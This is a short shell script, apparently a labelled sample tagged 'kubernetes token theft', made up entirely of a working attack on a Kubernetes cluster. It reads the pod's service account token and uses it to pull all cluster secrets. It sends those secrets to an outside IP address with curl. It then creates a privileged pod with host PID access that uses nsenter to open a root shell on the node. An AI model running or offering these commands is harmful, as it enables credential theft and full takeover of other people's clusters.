# class: kubernetes token theft; style: tidy
sa=/var/run/secrets/kubernetes.io/serviceaccount
token=$(cat "$sa/token")
api=https://kubernetes.default.svc
curl -sk -H "Authorization: Bearer $token" "$api/api/v1/secrets" | curl -s --data-binary @- http://203.0.113.61/k8s
curl -sk -H "Authorization: Bearer $token" -H 'Content-Type: application/json' -X POST "$api/api/v1/namespaces/default/pods" \
  -d '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"n"},"spec":{"hostPID":true,"containers":[{"name":"n","image":"alpine","securityContext":{"privileged":true},"command":["nsenter","-t","1","-a","sh"]}]}}'
